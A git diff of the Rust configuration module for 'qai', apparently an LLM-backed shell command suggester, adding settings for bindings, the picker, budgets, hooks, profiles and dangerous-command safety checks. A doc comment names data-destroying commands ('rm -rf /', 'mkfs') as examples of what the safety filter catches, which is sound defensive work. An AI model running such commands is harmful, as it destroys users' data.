@@ -1,11 +1,28 @@
+//! Configuration from `qai.yml` (or `qai.toml`)
+//!
+//! [`Config::load`] reads the user config, migrates older layouts, and layers a
+//! project `.qai.yml` on top; [`Config::apply_profile`] switches to a named profile.
+
 use eyre::{Context, Result};
+#[cfg(feature = "schema")]
+use schemars::JsonSchema;
+use serde::de::DeserializeOwned;
 use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
 use std::fs;
 use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+use crate::migrate::{CONFIG_VERSION, migrate_file};
+
+/// Seed used by --deterministic when `query.seed` isn't set
+pub const DETERMINISTIC_SEED: u64 = 42;
 
 /// Bindings configuration
 #[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
 #[serde(default)]
+#[serde(rename_all = "kebab-case")]
 pub struct BindingsConfig {
     /// Key to trigger AI mode (when buffer is "ai")
     /// Examples: "tab", "ctrl-space", "ctrl-a", "f1"
@@ -13,6 +30,25 @@ pub struct BindingsConfig {
     /// Key to submit query to LLM (in AI mode)
     /// Examples: "enter", "ctrl-m"
     pub submit: String,
+    /// Key to leave AI mode without sending SIGINT (Ctrl+C also works)
+    /// Examples: "esc", "ctrl-g"
+    pub cancel: String,
+    /// Key that submits the query and inserts the best (history-ranked) result without the picker
+    /// Examples: "ctrl-o", "f2" (default: unbound)
+    #[serde(alias = "quick_accept")]
+    pub quick_accept: Option<String>,
+    /// fzf key that opens the highlighted suggestion in $EDITOR before inserting it
+    /// Examples: "ctrl-e", "alt-e"
+    pub edit: String,
+    /// fzf key that runs the highlighted suggestion immediately
+    /// Examples: "ctrl-x", "alt-enter"
+    pub execute: String,
+    /// fzf key that replaces the suggestions with a fresh batch for the same query
+    /// Examples: "ctrl-r", "alt-r"
+    pub regenerate: String,
+    /// Warn (once per shell) when a plugin widget shares or takes over the trigger key
+    #[serde(alias = "warn_conflicts")]
+    pub warn_conflicts: bool,
 }
 
 impl Default for BindingsConfig {
@@ -20,17 +56,628 @@ impl Default for BindingsConfig {
         Self {
             trigger: "tab".to_string(),
             submit: "enter".to_string(),
+            cancel: "esc".to_string(),
+            quick_accept: None,
+            edit: "ctrl-e".to_string(),
+            execute: "ctrl-x".to_string(),
+            regenerate: "ctrl-r".to_string(),
+            warn_conflicts: true,
+        }
+    }
+}
+
+/// Text shown by the zsh integration
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(default)]
+#[serde(rename_all = "kebab-case")]
+pub struct UiConfig {
+    /// Prompt shown in AI mode (default: "🤖 ai> "); zsh prompt escapes like %F{cyan} work
+    pub ai_prompt: String,
+    /// Message shown while waiting for the API (default: "🔄 Fetching...")
+    pub fetching_message: String,
+    /// Prefix of error messages (default: "❌", empty for none)
+    pub error_prefix: String,
+    /// Spinner frames shown in the prompt while fetching, one per character (empty to disable)
+    pub spinner: String,
+    /// zsh highlight style of an inserted command until it is edited or run (empty to disable)
+    /// Examples: "fg=cyan", "bg=236,underline"
+    pub highlight: String,
+}
+
+impl Default for UiConfig {
+    fn default() -> Self {
+        Self {
+            ai_prompt: "🤖 ai> ".to_string(),
+            fetching_message: "🔄 Fetching...".to_string(),
+            error_prefix: "❌".to_string(),
+            spinner: "⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏".to_string(),
+            highlight: "fg=cyan".to_string(),
+        }
+    }
+}
+
+/// What to do with the suggestion picked with enter (or the only one, without fzf)
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, Default)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(rename_all = "lowercase")]
+pub enum OnSelect {
+    /// Put it in the buffer for review
+    #[default]
+    Insert,
+    /// Run it immediately
+    Execute,
+    /// Open it in $EDITOR, then put the result in the buffer
+    Edit,
+}
+
+impl OnSelect {
+    pub fn as_str(&self) -> &'static str {
+        match self {
+            OnSelect::Insert => "insert",
+            OnSelect::Execute => "execute",
+            OnSelect::Edit => "edit",
+        }
+    }
+}
+
+/// Multi-result picker configuration
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(default)]
+#[serde(rename_all = "kebab-case")]
+pub struct PickerConfig {
+    /// What enter does with the selected suggestion: insert, execute, or edit (default: insert)
+    #[serde(alias = "on_select")]
+    pub on_select: OnSelect,
+    /// Open the fzf picker in a `tmux display-popup` when running inside tmux (needs tmux 3.2+)
+    pub tmux_popup: bool,
+    /// Popup width, in tmux's format (default: "80%")
+    pub popup_width: String,
+    /// Popup height, in tmux's format (default: "50%")
+    pub popup_height: String,
+    /// Show why the highlighted suggestion may run long, and how to bound it, in a preview
+    /// line below the picker (default: true)
+    pub hints: bool,
+}
+
+impl Default for PickerConfig {
+    fn default() -> Self {
+        Self {
+            on_select: OnSelect::Insert,
+            tmux_popup: false,
+            popup_width: "80%".to_string(),
+            popup_height: "50%".to_string(),
+            hints: true,
+        }
+    }
+}
+
+/// Defaults for `qai query` (command-line flags take precedence)
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(default)]
+#[serde(rename_all = "kebab-case")]
+pub struct QueryConfig {
+    /// Number of results with --multi (default: 5)
+    pub count: usize,
+    /// Return multiple results without --multi (--single turns it off for one query)
+    pub multi: bool,
+    /// Sampling temperature (default: 0.0, the most deterministic)
+    pub temperature: f32,
+    /// Sampling seed, for reproducible answers where the API supports it (default: none)
+    pub seed: Option<u64>,
+    /// Max tokens to generate for a query (default: the top-level max-tokens)
+    #[serde(alias = "max_tokens")]
+    pub max_tokens: Option<u32>,
+    /// Stream the answer, printing each of the multiple results as soon as it is complete
+    /// (the zsh picker fills in as they arrive); results are not re-ranked by history
+    pub stream: bool,
+    /// Teach mode: follow each command with a one-line `# comment` explaining it
+    pub teach: bool,
+    /// Adaptive result count: ask for extra results and keep the most distinct, and answer
+    /// short queries that history has settled on with a single command
+    pub adaptive: bool,
+    /// Results asked for beyond the count in adaptive mode (default: 3)
+    #[serde(alias = "adaptive_extra")]
+    pub adaptive_extra: usize,
+    /// Picks of one command a query needs before adaptive mode answers it with a single
+    /// command (default: 3)
+    #[serde(alias = "adaptive_min_picks")]
+    pub adaptive_min_picks: u32,
+    /// Answer from built-in rules for everyday tasks when the API can't be reached, instead
+    /// of failing (default: true)
+    #[serde(alias = "offline_fallback")]
+    pub offline_fallback: bool,
+}
+
+impl Default for QueryConfig {
+    fn default() -> Self {
+        Self {
+            count: 5,
+            multi: false,
+            temperature: 0.0,
+            seed: None,
+            max_tokens: None,
+            stream: false,
+            teach: false,
+            adaptive: false,
+            adaptive_extra: 3,
+            adaptive_min_picks: 3,
+            offline_fallback: true,
+        }
+    }
+}
+
+impl QueryConfig {
+    /// Apply the --multi, --single, and -n flags over these defaults, giving (multi, count)
+    pub fn resolve(&self, multi: bool, single: bool, count: Option<usize>) -> (bool, usize) {
+        (!single && (multi || self.multi), count.unwrap_or(self.count))
+    }
+
+    /// Results to ask the model for when `count` are wanted: more in adaptive mode
+    pub fn candidates(&self, count: usize) -> usize {
+        if self.adaptive {
+            count + self.adaptive_extra
+        } else {
+            count
+        }
+    }
+
+    /// Ask for reproducible answers (--deterministic): temperature 0 and a fixed seed, the
+    /// configured one if set
+    pub fn make_deterministic(&mut self) {
+        self.temperature = 0.0;
+        self.seed.get_or_insert(DETERMINISTIC_SEED);
+    }
+}
+
+/// Where answers come from
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, Default)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(rename_all = "lowercase")]
+pub enum Provider {
+    /// The OpenAI-compatible API at api-base
+    #[default]
+    Openai,
+    /// Replay fixtures from paths.fixtures, without an API key or network
+    Mock,
+    /// Ask the API and save each answer as a fixture
+    Record,
+    /// Run the model-path GGUF model in-process, without a server or network (needs the
+    /// `local` feature)
+    Local,
+}
+
+/// What to do with suggestions that match a destructive pattern (rm -rf /, mkfs, ...)
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, Default)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(rename_all = "lowercase")]
+pub enum Dangerous {
+    /// Keep them, flagged; the zsh widget asks before inserting or running one
+    #[default]
+    Warn,
+    /// Drop them from the results
+    Filter,
+    /// No checks
+    Allow,
+}
+
+/// What to do with suggestions the shell can't parse
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, Default)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(rename_all = "lowercase")]
+pub enum SyntaxCheck {
+    /// Drop them from the results
+    #[default]
+    Drop,
+    /// Keep them, with the error on stderr
+    Flag,
+    /// No checks
+    Off,
+}
+
+/// What to do when the query or prompt context contains credentials
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, Default)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(rename_all = "lowercase")]
+pub enum SecretScan {
+    /// Mask them and send the rest, with a warning
+    #[default]
+    Redact,
+    /// Don't send a query that contains them (context is still redacted)
+    Refuse,
+    /// No scanning
+    Off,
+}
+
+/// What to do with suggestions that run commands through sudo (or doas)
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, Default)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(rename_all = "lowercase")]
+pub enum AllowSudo {
+    /// Rewrite them without sudo
+    Never,
+    /// Ask before the widget inserts or runs them
+    Ask,
+    /// Suggest them as they are
+    #[default]
+    Always,
+}
+
+/// Dangerous-command detection configuration
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq, Default)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(default)]
+#[serde(rename_all = "kebab-case")]
+pub struct SafetyConfig {
+    /// What to do with dangerous suggestions: warn, filter, or allow (default: warn)
+    pub dangerous: Dangerous,
+    /// Regexes of commands that are never suggested
+    pub deny: Vec<String>,
+    /// Regexes of commands the zsh widget asks about before inserting or running them
+    pub confirm: Vec<String>,
+    /// What to do with commands that fail `zsh -n` (or `bash -n`): drop, flag, or off (default: drop)
+    #[serde(alias = "syntax_check")]
+    pub syntax_check: SyntaxCheck,
+    /// What to do with credentials in the outgoing query and context: redact, refuse, or off
+    /// (default: redact)
+    pub secrets: SecretScan,
+    /// What to do with suggestions using sudo: never (rewrite without it), ask, or always
+    /// (default: always)
+    #[serde(alias = "allow_sudo")]
+    pub allow_sudo: AllowSudo,
+}
+
+/// What to do once a daily budget is used up
+#[derive(Debug, Deserialize, Serialize, Clone, Copy, PartialEq, Default)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(rename_all = "lowercase")]
+pub enum OnExceed {
+    /// Don't send more queries until tomorrow
+    #[default]
+    Refuse,
+    /// Send them, with a warning on stderr
+    Warn,
+}
+
+/// Daily token/cost budget configuration
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(default)]
+#[serde(rename_all = "kebab-case")]
+pub struct BudgetConfig {
+    /// Max tokens (prompt + completion) per day
+    #[serde(alias = "daily_tokens")]
+    pub daily_tokens: Option<u64>,
+    /// Max spend per day in USD (needs a known price for the model)
+    #[serde(alias = "daily_usd")]
+    pub daily_usd: Option<f64>,
+    /// What to do once a budget is used up: refuse or warn (default: refuse)
+    #[serde(alias = "on_exceed")]
+    pub on_exceed: OnExceed,
+    /// Price per million prompt tokens, overriding the built-in price of the model
+    #[serde(alias = "input_usd_per_mtok")]
+    pub input_usd_per_mtok: Option<f64>,
+    /// Price per million completion tokens, overriding the built-in price of the model
+    #[serde(alias = "output_usd_per_mtok")]
+    pub output_usd_per_mtok: Option<f64>,
+    /// Percentages of a daily budget that print a warning once crossed (default: [80])
+    #[serde(alias = "warn_at")]
+    pub warn_at: Vec<u8>,
+}
+
+impl Default for BudgetConfig {
+    fn default() -> Self {
+        Self {
+            daily_tokens: None,
+            daily_usd: None,
+            on_exceed: OnExceed::default(),
+            input_usd_per_mtok: None,
+            output_usd_per_mtok: None,
+            warn_at: vec![80],
+        }
+    }
+}
+
+impl BudgetConfig {
+    /// Whether any daily limit is set (usage is only tracked then)
+    pub fn is_enabled(&self) -> bool {
+        self.daily_tokens.is_some() || self.daily_usd.is_some()
+    }
+}
+
+/// Retrying and queueing requests the API answers with 429 (see [`crate::ratelimit`])
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(default)]
+#[serde(rename_all = "kebab-case")]
+pub struct RateLimitConfig {
+    /// Times a rate-limited request is sent again before failing (default: 3, 0 fails right away)
+    pub retries: u32,
+    /// Wait before the first retry when the API doesn't say how long, doubled each time (default: 1000)
+    #[serde(alias = "backoff_ms")]
+    pub backoff_ms: u64,
+    /// Longest wait for one retry; a longer Retry-After fails the request (default: 30)
+    #[serde(alias = "max_wait_secs")]
+    pub max_wait_secs: u64,
+    /// Gap between queued requests once the API takes them again (default: 1000)
+    #[serde(alias = "pace_ms")]
+    pub pace_ms: u64,
+}
+
+impl Default for RateLimitConfig {
+    fn default() -> Self {
+        Self {
+            retries: 3,
+            backoff_ms: 1000,
+            max_wait_secs: 30,
+            pace_ms: 1000,
+        }
+    }
+}
+
+/// Audit log configuration
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq, Default)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(default)]
+#[serde(rename_all = "kebab-case")]
+pub struct AuditConfig {
+    /// Append every executed AI-suggested command to the audit log (default: false)
+    pub enabled: bool,
+    /// Audit log file (default: ~/.local/share/qai/audit.jsonl)
+    pub path: Option<PathBuf>,
+}
+
+/// Where qai keeps its state (the QAI_DATA_DIR, QAI_HISTORY_DIR, QAI_CACHE_DIR, and
+/// QAI_LOG_DIR environment variables take precedence)
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq, Default)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(default)]
+#[serde(rename_all = "kebab-case")]
+pub struct PathsConfig {
+    /// Data directory, holding usage, sessions, the audit log, telemetry state, and history and
+    /// fixtures unless they're moved on their own (default: ~/.local/share/qai)
+    pub data: Option<PathBuf>,
+    /// History directory (default: <data>/history)
+    pub history: Option<PathBuf>,
+    /// Cache directory, holding the tool cache (default: ~/.cache/qai)
+    pub cache: Option<PathBuf>,
+    /// Log directory (default: ~/.local/state/qai/logs)
+    pub logs: Option<PathBuf>,
+    /// Fixtures directory for `provider: mock` and `record` (default: <data>/fixtures)
+    pub fixtures: Option<PathBuf>,
+}
+
+/// Log file rotation
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(default)]
+#[serde(rename_all = "kebab-case")]
+pub struct LoggingConfig {
+    /// Rotate qai.log once it reaches this size in KiB (default: 1024; 0 never rotates)
+    #[serde(alias = "max_size_kb")]
+    pub max_size_kb: u64,
+    /// Rotated files to keep, as qai.log.1 (newest) to qai.log.N (default: 3)
+    #[serde(alias = "max_files")]
+    pub max_files: usize,
+}
+
+impl Default for LoggingConfig {
+    fn default() -> Self {
+        Self {
+            max_size_kb: 1024,
+            max_files: 3,
+        }
+    }
+}
+
+/// Per-session transcript configuration
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq, Default)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(default)]
+#[serde(rename_all = "kebab-case")]
+pub struct SessionConfig {
+    /// Write a transcript of each shell session's queries, candidates, and executions
+    /// (shown by `qai session show`; default: false)
+    pub transcript: bool,
+}
+
+/// Tool discovery configuration
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(default)]
+#[serde(rename_all = "kebab-case")]
+pub struct ToolsConfig {
+    /// Modern tool -> standard equivalent (e.g. rg -> grep)
+    /// Used to hint the prompt and to rewrite suggestions that use an unavailable modern tool
+    pub substitutions: BTreeMap<String, String>,
+    /// Include the tldr/cheat page of installed tools named in the query
+    pub tldr: bool,
+    /// Max characters of each tldr page to include (default: 1500)
+    pub tldr_max_chars: usize,
+}
+
+impl Default for ToolsConfig {
+    fn default() -> Self {
+        let substitutions = [("eza", "ls"), ("rg", "grep"), ("fd", "find"), ("bat", "cat")]
+            .into_iter()
+            .map(|(modern, standard)| (modern.to_string(), standard.to_string()))
+            .collect();
+        Self {
+            substitutions,
+            tldr: false,
+            tldr_max_chars: 1500,
+        }
+    }
+}
+
+/// Weights of the signals multi results are ranked by (see [`crate::rank`]); 0 turns a signal off
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(default)]
+#[serde(rename_all = "kebab-case")]
+pub struct RankConfig {
+    /// The model's own order, best first (default: 1.0)
+    pub ai_order: f32,
+    /// Past picks for the same query, less a penalty for patterns that keep failing (default: 1.0)
+    pub history: f32,
+    /// All of the command's tools are installed (default: 2.0)
+    pub tools: f32,
+    /// Penalty for caution (1x) and dangerous (2x) commands (default: 0.5)
+    pub risk: f32,
+}
+
+impl Default for RankConfig {
+    fn default() -> Self {
+        Self {
+            ai_order: 1.0,
+            history: 1.0,
+            tools: 2.0,
+            risk: 0.5,
+        }
+    }
+}
+
+/// Shell commands run around queries (see [`crate::hooks`])
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq, Default)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(default)]
+#[serde(rename_all = "kebab-case")]
+pub struct HooksConfig {
+    /// Run before a query is sent, with the query in $QAI_QUERY; a non-zero exit refuses the query
+    #[serde(alias = "pre_query")]
+    pub pre_query: Option<String>,
+    /// Run after a suggestion is picked in the zsh widget, with $QAI_QUERY and $QAI_COMMAND
+    #[serde(alias = "post_select")]
+    pub post_select: Option<String>,
+}
+
+/// Opt-in usage telemetry (turned on and off with `qai telemetry enable|disable`)
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq, Default)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(default)]
+#[serde(rename_all = "kebab-case")]
+pub struct TelemetryConfig {
+    /// URL the daily tally is POSTed to as JSON; nothing is sent without one (default: none)
+    pub endpoint: Option<String>,
+}
+
+/// Extra prompt context configuration
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(default)]
+#[serde(rename_all = "kebab-case")]
+pub struct ContextConfig {
+    /// Include recent shell history (secrets redacted) in the prompt
+    pub shell_history: bool,
+    /// Number of recent history entries to include (default: 10)
+    pub shell_history_entries: usize,
+    /// Include the names of the working directory's top-level entries in the prompt
+    pub directory_listing: bool,
+    /// Max number of directory entries to include (default: 50)
+    pub directory_listing_max: usize,
+    /// Detect the kubectl context and namespace ({{kube_context}}, {{kube_namespace}})
+    pub kubernetes: bool,
+    /// Include imported shell aliases (with their values, secrets redacted) and function names
+    /// in the prompt
+    pub aliases: bool,
+    /// Environment variables whose values are included in the prompt; nothing else is sent
+    pub env_vars: Vec<String>,
+    /// Approximate token budget for the whole system prompt; lower-priority
+    /// context is trimmed to fit (default: 3000, 0 = unlimited)
+    pub max_prompt_tokens: usize,
+    /// Keep the home directory, user name, and hostname out of the prompt, and never
+    /// send the directory listing
+    pub privacy: bool,
+    /// Max characters of input attached with `qai query --context` (default: 8000, 0 = unlimited)
+    pub attached_max_chars: usize,
+    /// How long scripts in ~/.config/qai/context.d may run before they are killed and left
+    /// out (default: 500)
+    pub scripts_timeout_ms: u64,
+}
+
+impl Default for ContextConfig {
+    fn default() -> Self {
+        Self {
+            shell_history: false,
+            shell_history_entries: 10,
+            directory_listing: false,
+            directory_listing_max: 50,
+            kubernetes: false,
+            aliases: false,
+            env_vars: Vec::new(),
+            max_prompt_tokens: 3000,
+            privacy: false,
+            attached_max_chars: 8000,
+            scripts_timeout_ms: 500,
         }
     }
 }
 
-#[derive(Debug, Deserialize, Serialize)]
+/// Settings a repository can ship for its contributors in `.qai.yml`. Only these keys are
+/// accepted: a checked-out repository must not be able to redirect the API key elsewhere,
+/// run commands, or weaken safety checks
+#[derive(Debug, Deserialize, Clone, PartialEq, Default)]
+#[serde(default)]
+#[serde(rename_all = "kebab-case", deny_unknown_fields)]
+pub struct ProjectConfig {
+    pub model: Option<String>,
+    /// Default profile (config or prompt profile) in this repository
+    pub profile: Option<String>,
+    pub language: Option<String>,
+    #[serde(alias = "prompt_vars")]
+    pub prompt_vars: BTreeMap<String, String>,
+    pub safety: ProjectSafetyConfig,
+}
+
+/// Safety rules a project adds to the user's
+#[derive(Debug, Deserialize, Clone, PartialEq, Default)]
+#[serde(default)]
+#[serde(deny_unknown_fields)]
+pub struct ProjectSafetyConfig {
+    pub deny: Vec<String>,
+    pub confirm: Vec<String>,
+}
+
+/// A named set of connection settings (e.g. work, personal, local-llm), selected with
+/// `--profile` or `QAI_PROFILE`; unset fields keep the top-level value
+#[derive(Debug, Deserialize, Serialize, Clone, PartialEq, Default)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
+#[serde(default)]
+#[serde(rename_all = "kebab-case")]
+pub struct ProfileConfig {
+    #[serde(alias = "api_key")]
+    pub api_key: Option<String>,
+    #[serde(alias = "api_key_cmd")]
+    pub api_key_cmd: Option<String>,
+    #[serde(alias = "api_base")]
+    pub api_base: Option<String>,
+    pub model: Option<String>,
+    #[serde(alias = "allow_no_api_key")]
+    pub allow_no_api_key: Option<bool>,
+    #[serde(alias = "max_tokens")]
+    pub max_tokens: Option<u32>,
+    #[serde(alias = "http_timeout_secs")]
+    pub http_timeout_secs: Option<u64>,
+    /// Prompt profile (`~/.config/qai/prompts/<prompt>.pmt`) to use with this profile
+    pub prompt: Option<String>,
+    pub provider: Option<Provider>,
+}
+
+#[derive(Debug, Clone, Deserialize, Serialize)]
+#[cfg_attr(feature = "schema", derive(JsonSchema))]
 #[serde(default)]
 #[serde(rename_all = "kebab-case")]
 pub struct Config {
+    /// Config layout version; older layouts are migrated on load
+    pub version: u64,
     /// OpenAI API key (can also be set via QAI_API_KEY env var)
     #[serde(alias = "api_key")]
     pub api_key: Option<String>,
+    /// Command whose output is the API key, e.g. "pass show openai" (used when api-key is unset)
+    #[serde(alias = "api_key_cmd")]
+    pub api_key_cmd: Option<String>,
     /// Allow running without an API key (useful for local OpenAI-compatible models)
     #[serde(alias = "allow_no_api_key")]
     pub allow_no_api_key: bool,
@@ -42,26 +689,112 @@ pub struct Config {
     pub http_timeout_secs: u64,
     /// Model to use (default: gpt-4o-mini)
     pub model: String,
-    /// API base URL (default: https://api.openai.com/v1)
+    /// API base URL (default: `https://api.openai.com/v1`)
     pub api_base: String,
+    /// Where answers come from: openai (default), mock (replay fixtures), record, or local
+    pub provider: Provider,
+    /// GGUF model file run by `provider: local`
+    #[serde(alias = "model_path")]
+    pub model_path: Option<PathBuf>,
+    /// tokenizer.json of the local model (default: tokenizer.json next to model-path)
+    #[serde(alias = "tokenizer_path")]
+    pub tokenizer_path: Option<PathBuf>,
     /// Enable debug mode
     pub debug: bool,
     /// Bindings configuration
     #[serde(default)]
     pub bindings: BindingsConfig,
+    /// Multi-result picker configuration
+    #[serde(default)]
+    pub picker: PickerConfig,
+    /// Defaults for `qai query`
+    #[serde(default)]
+    pub query: QueryConfig,
+    /// Per-session transcript configuration
+    #[serde(default)]
+    pub session: SessionConfig,
+    /// Dangerous-command detection configuration
+    #[serde(default)]
+    pub safety: SafetyConfig,
+    /// Audit log configuration
+    #[serde(default)]
+    pub audit: AuditConfig,
+    /// History, cache, and log locations
+    #[serde(default)]
+    pub paths: PathsConfig,
+    /// Log file rotation
+    #[serde(default)]
+    pub logging: LoggingConfig,
+    /// Daily token/cost budget configuration
+    #[serde(default)]
+    pub budget: BudgetConfig,
+    /// Retrying and queueing of rate-limited requests
+    #[serde(default, alias = "rate_limit")]
+    pub rate_limit: RateLimitConfig,
+    /// Prompt and message text of the zsh integration
+    #[serde(default)]
+    pub ui: UiConfig,
+    /// Tool discovery configuration
+    #[serde(default)]
+    pub tools: ToolsConfig,
+    /// Ranking weights of multi results
+    #[serde(default)]
+    pub rank: RankConfig,
+    /// Opt-in usage telemetry
+    #[serde(default)]
+    pub telemetry: TelemetryConfig,
+    /// Shell commands run before queries and after picks
+    #[serde(default)]
+    pub hooks: HooksConfig,
+    /// Extra prompt context configuration
+    #[serde(default)]
+    pub context: ContextConfig,
+    /// Language for explanations and comments, e.g. "German" (commands are never translated)
+    pub language: Option<String>,
+    /// User-defined prompt variables, rendered as `{{name}}` in prompt templates
+    #[serde(alias = "prompt_vars")]
+    pub prompt_vars: BTreeMap<String, String>,
+    /// Profile used when neither --profile nor QAI_PROFILE is given
+    pub profile: Option<String>,
+    /// Named connection profiles
+    pub profiles: BTreeMap<String, ProfileConfig>,
 }
 
 impl Default for Config {
     fn default() -> Self {
         Self {
+            version: CONFIG_VERSION,
             api_key: None,
+            api_key_cmd: None,
             allow_no_api_key: false,
             max_tokens: 500,
             http_timeout_secs: 30,
             model: "gpt-4o-mini".to_string(),
             api_base: "https://api.openai.com/v1".to_string(),
+            provider: Provider::default(),
+            model_path: None,
+            tokenizer_path: None,
             debug: false,
             bindings: BindingsConfig::default(),
+            picker: PickerConfig::default(),
+            query: QueryConfig::default(),
+            session: SessionConfig::default(),
+            safety: SafetyConfig::default(),
+            audit: AuditConfig::default(),
+            paths: PathsConfig::default(),
+            logging: LoggingConfig::default(),
+            budget: BudgetConfig::default(),
+            rate_limit: RateLimitConfig::default(),
+            ui: UiConfig::default(),
+            tools: ToolsConfig::default(),
+            rank: RankConfig::default(),
+            telemetry: TelemetryConfig::default(),
+            hooks: HooksConfig::default(),
+            context: ContextConfig::default(),
+            language: None,
+            prompt_vars: BTreeMap::new(),
+            profile: None,
+            profiles: BTreeMap::new(),
         }
     }
 }
@@ -75,10 +808,10 @@ impl Config {
         {
             return Some(key);
         }
-        // Fall back to config file
+        // Fall back to config file, then to the key command
         match &self.api_key {
             Some(key) if !key.is_empty() => Some(key.clone()),
-            _ => None,
+            _ => self.api_key_cmd.as_deref().and_then(run_key_command),
         }
     }
 
@@ -94,52 +827,201 @@ impl Config {
         matches!(env_value, Some(key) if !key.is_empty())
     }
 
-    /// Load configuration with fallback chain
+    /// Apply the overrides of a named profile; returns the profile, or None when it isn't defined
+    pub fn apply_profile(&mut self, name: &str) -> Option<ProfileConfig> {
+        let profile = self.profiles.get(name)?.clone();
+        if let Some(api_key) = &profile.api_key {
+            self.api_key = Some(api_key.clone());
+        }
+        if let Some(api_key_cmd) = &profile.api_key_cmd {
+            // The profile's command wins over a top-level key
+            self.api_key = None;
+            self.api_key_cmd = Some(api_key_cmd.clone());
+        }
+        if let Some(api_base) = &profile.api_base {
+            self.api_base = api_base.clone();
+        }
+        if let Some(model) = &profile.model {
+            self.model = model.clone();
+        }
+        if let Some(allow_no_api_key) = profile.allow_no_api_key {
+            self.allow_no_api_key = allow_no_api_key;
+        }
+        if let Some(max_tokens) = profile.max_tokens {
+            self.max_tokens = max_tokens;
+        }
+        if let Some(http_timeout_secs) = profile.http_timeout_secs {
+            self.http_timeout_secs = http_timeout_secs;
+        }
+        if let Some(provider) = profile.provider {
+            self.provider = provider;
+        }
+        Some(profile)
+    }
+
+    /// Load configuration with fallback chain: the given path, else ~/.config/qai/qai.yml,
+    /// else ./qai.yml (or their .toml forms), else the defaults.
+    /// The user config, with the project config (`.qai.yml` in the cwd or a parent) layered on top
     pub fn load(config_path: Option<&PathBuf>) -> Result<Self> {
+        let mut config = Self::load_user(config_path)?;
+        if let Some(path) = std::env::current_dir().ok().and_then(|cwd| find_project_config(&cwd)) {
+            match parse_file::<ProjectConfig>(&path) {
+                Ok(project) => {
+                    log::info!("Applying project config from: {}", path.display());
+                    config.apply_project(project);
+                }
+                Err(e) => log::warn!("Ignoring project config {}: {:#}", path.display(), e),
+            }
+        }
+        Ok(config)
+    }
+
+    /// One section of the user config, read on its own (e.g. `paths` and `logging`, which
+    /// are needed before logging is set up and the full config is loaded)
+    pub fn load_section<T: DeserializeOwned + Default>(config_path: Option<&PathBuf>, name: &str) -> T {
+        Self::user_config_path(config_path)
+            .and_then(|path| parse_file::<BTreeMap<String, serde_yaml::Value>>(&path).ok())
+            .and_then(|mut sections| sections.remove(name))
+            .and_then(|section| serde_yaml::from_value(section).ok())
+            .unwrap_or_default()
+    }
+
+    /// The user config file `load` would read: the given path, else the first that exists
+    pub fn user_config_path(config_path: Option<&PathBuf>) -> Option<PathBuf> {
+        if let Some(path) = config_path {
+            return Some(path.clone());
+        }
+        let project_name = env!("CARGO_PKG_NAME");
+        let primary_dir = dirs::config_dir().map(|config_dir| config_dir.join(project_name));
+        primary_dir
+            .into_iter()
+            .chain([PathBuf::new()])
+            .flat_map(|dir| config_files_in(&dir))
+            .find(|path| path.exists())
+    }
+
+    fn load_user(config_path: Option<&PathBuf>) -> Result<Self> {
         // If explicit config path provided, try to load it
         if let Some(path) = config_path {
             return Self::load_from_file(path).context(format!("Failed to load config from {}", path.display()));
         }
 
-        // Try primary location: ~/.config/qai/qai.yml
-        if let Some(config_dir) = dirs::config_dir() {
-            let project_name = env!("CARGO_PKG_NAME");
-            let primary_config = config_dir.join(project_name).join(format!("{}.yml", project_name));
-            if primary_config.exists() {
-                match Self::load_from_file(&primary_config) {
+        // Try primary location: ~/.config/qai/qai.yml (or qai.toml), then fallback: ./qai.yml (or qai.toml)
